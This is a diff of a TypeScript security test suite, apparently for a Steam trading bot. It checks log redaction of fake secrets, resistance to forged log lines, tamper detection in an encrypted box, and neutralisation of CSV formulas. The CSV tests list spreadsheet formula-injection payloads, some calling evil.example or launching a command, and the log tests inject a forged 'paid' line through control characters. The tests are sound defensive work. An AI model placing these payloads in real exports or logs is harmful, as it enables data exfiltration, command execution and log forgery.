@@ -23,13 +23,13 @@ function lineOf(fields: object, message: string, pretty = false): string {
 }
 
 const CORE = 'c0ffeec0ffeec0ffeec0ffeec0'
-/** Each has `CORE` in it, or is nothing but a hash. */
+/** Secret texts. Each contains `CORE`, or is a hash. */
 const TEXTS: Record<string, string> = {
   'an API key': `tt_live_abcdefgh_${CORE}${CORE}_12345678`,
   'an API key in upper case': `TT_LIVE_ABCDEFGH_${CORE}`,
   'a webhook secret': `whsec_${CORE}+/=`,
   'a token of Steam': `eyJhbGciOiJFZERTQSJ9.${CORE}.${CORE}`,
-  'half a token of Steam': `eyJhbGciOiJFZERTQSJ9${CORE}`,
+  'part of a token of Steam': `eyJhbGciOiJFZERTQSJ9${CORE}`,
   'a trade link': `https://steamcommunity.com/tradeoffer/new/?partner=1&token=${CORE}`,
   'an encoded trade link': `tradeoffer%2Fnew%3Fpartner%3D1%26token%3D${CORE}`,
   'a header': `authorization: Bearer ${CORE}`,
@@ -76,13 +76,13 @@ export const canaries: Family = family({
       at: `${LOG} hideField`,
       off: [{ file: LOG, from: 'if (SECRET_KEYS.has(key)) return HIDDEN', to: '' }],
     },
-    'rows that a database quotes': {
+    'rows quoted by database errors': {
       at: `${LOG} errorFields`,
       off: [{ file: LOG, from: '.filter(([key]) => !ROW_FIELDS.has(key.toLowerCase()))', to: '' }],
     },
   },
   honest: () =>
-    never(!lineOf({ botId: '7' }, 'bot refused').includes('"botId":"7"'), 'a line lost its field'),
+    never(!lineOf({ botId: '7' }, 'bot refused').includes('"botId":"7"'), 'a line lacks its field'),
   cases: () => [
     ...Object.entries(TEXTS).flatMap(([what, text]) =>
       Object.entries(PLACES).map(([place, linesOf]) => ({
@@ -93,7 +93,7 @@ export const canaries: Family = family({
             lineOf(...linesOf(text))
               .toLowerCase()
               .includes(CORE),
-            'stands in the log',
+            'appears in the log',
           ),
       })),
     ),
@@ -101,17 +101,20 @@ export const canaries: Family = family({
       what: `a field ${field}`,
       by: 'names of fields' as const,
       attack: () =>
-        never(lineOf({ call: { [field]: 'plain words' } }, 'x').includes('plain words'), 'stands in the log'),
+        never(
+          lineOf({ call: { [field]: 'plain words' } }, 'x').includes('plain words'),
+          'appears in the log',
+        ),
     })),
     ...['detail', 'where', 'internalQuery', 'parameters'].map((field) => ({
       what: `${field} of an error of PostgreSQL`,
-      by: 'rows that a database quotes' as const,
+      by: 'rows quoted by database errors' as const,
       attack: () =>
         never(
           lineOf({ err: Object.assign(new Error('x'), { [field]: 'plain words' }) }, 'x').includes(
             'plain words',
           ),
-          'stands in the log',
+          'appears in the log',
         ),
     })),
   ],
@@ -132,10 +135,10 @@ const FORGED = '12:00:00 INFO  paid'
 
 export const forgedLines: Family = family({
   number: 35,
-  name: 'forged lines of the log, and what drives a terminal',
+  name: 'forged log lines, and control characters for terminals',
   kind: 'pure',
   defences: {
-    'controls that JSON leaves': {
+    'control characters that JSON keeps': {
       at: `${LOG} escapeControls`,
       off: [
         {
@@ -145,7 +148,7 @@ export const forgedLines: Family = family({
         },
       ],
     },
-    'controls in readable lines': {
+    'control characters in readable lines': {
       at: `${LOG} printable`,
       off: [{ file: LOG, from: "return text.replace(/\\p{Cc}/gu, ' ')", to: 'return text' }],
     },
@@ -159,15 +162,14 @@ export const forgedLines: Family = family({
         ['in a field', lineOf.bind(null, { name: `x${control}y` }, 'x')] as const,
       ].map(([place, line]) => ({
         what: `${JSON.stringify(control)} ${place}`,
-        by: 'controls that JSON leaves' as const,
-        attack: () => never(/[\u007f-\u009f]/.test(line()), 'stands in the log'),
+        by: 'control characters that JSON keeps' as const,
+        attack: () => never(/[\u007f-\u009f]/.test(line()), 'appears in the log'),
       })),
     ),
     ...BREAKS.map((control) => ({
       what: `${JSON.stringify(control)} before a forged line`,
-      by: 'controls in readable lines' as const,
-      attack: () =>
-        never(/\p{Cc}./u.test(lineOf({}, `x${control}${FORGED}`, true)), 'makes a line of its own'),
+      by: 'control characters in readable lines' as const,
+      attack: () => never(/\p{Cc}./u.test(lineOf({}, `x${control}${FORGED}`, true)), 'begins a new line'),
     })),
   ],
 })
@@ -200,14 +202,14 @@ export const sealed: Family = family({
         },
       ],
     },
-    'no byte changed': {
+    'authenticated bytes': {
       at: `${BOX} createSecretBox`,
       off: [{ file: BOX, from: ', decipher.final()])', to: '])' }],
     },
   },
   honest: () => {
     const box = createSecretBox(KEY)
-    return never(box.open(box.seal(SECRET, PLACE), PLACE) !== SECRET, 'a sealed text does not open')
+    return never(box.open(box.seal(SECRET, PLACE), PLACE) !== SECRET, 'a sealed text cannot be opened')
   },
   cases() {
     const whole = createSecretBox(KEY).seal(SECRET, PLACE)
@@ -219,14 +221,14 @@ export const sealed: Family = family({
       '',
       `${PLACE} `,
     ]
-    const moved: Case<'bound to its place' | 'no byte changed'>[] = places.map((place) => ({
+    const moved: Case<'bound to its place' | 'authenticated bytes'>[] = places.map((place) => ({
       what: `moved to '${place}'`,
       by: 'bound to its place',
       attack: () => never(opened(whole, place) !== undefined, 'opens'),
     }))
     const flipped = Array.from({ length: whole.length - 1 }, (_, index) => ({
       what: `a bit of byte ${index + 1}`,
-      by: 'no byte changed' as const,
+      by: 'authenticated bytes' as const,
       attack() {
         const other = Buffer.from(whole)
         other[index + 1] = (other[index + 1] ?? 0) ^ 1
@@ -235,7 +237,7 @@ export const sealed: Family = family({
     }))
     const keys = [0, 1, 31].map((at) => ({
       what: `another key in byte ${at}`,
-      by: 'no byte changed' as const,
+      by: 'authenticated bytes' as const,
       attack() {
         const other = Buffer.from(KEY)
         other[at] = 6
@@ -244,7 +246,7 @@ export const sealed: Family = family({
     }))
     const cut = {
       what: 'cut short',
-      by: 'no byte changed' as const,
+      by: 'authenticated bytes' as const,
       attack: () => never(opened(whole.subarray(0, -1), PLACE) !== undefined, 'opens'),
     }
     return [...moved, ...flipped, ...keys, cut]
@@ -272,12 +274,12 @@ const FORMULAS = [
     '=IMPORTXML("https://evil.example","//a")',
     '-2+3+cmd',
   ],
-  // Beginnings that a sheet passes over, and signs of other keyboards.
+  // White space before a formula, which spreadsheets skip, and full-width signs.
   ...['\r=1+1', '\r\n=1+1', '\n=1+1', '\r@SUM(1)', '\n+cmd', '\t-1+cmd'],
   ...['＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '＝HYPERLINK("https://evil.example")', "＝cmd|'/c calc'!A1"],
 ]
 
-/** The cell as a program reads CSV. */
+/** The first sign of the cell, as a program reads the CSV. */
 const firstSign = (marketHashName: string): string => {
   const item = {
     ...{ item: '1', bot: 'b', botSteamId: '7', appId: 570, contextId: '2', assetId: '3', marketHashName },
@@ -302,6 +304,6 @@ export const formulas: Family = family({
     FORMULAS.map((name) => ({
       what: JSON.stringify(name),
       by: 'plain text' as const,
-      attack: () => never(/[=+\-@\t\r\n＝＋－＠]/.test(firstSign(name)), 'begins a formula'),
+      attack: () => never(/[=+\-@\t\r\n＝＋－＠]/.test(firstSign(name)), 'starts a formula'),
     })),
 })
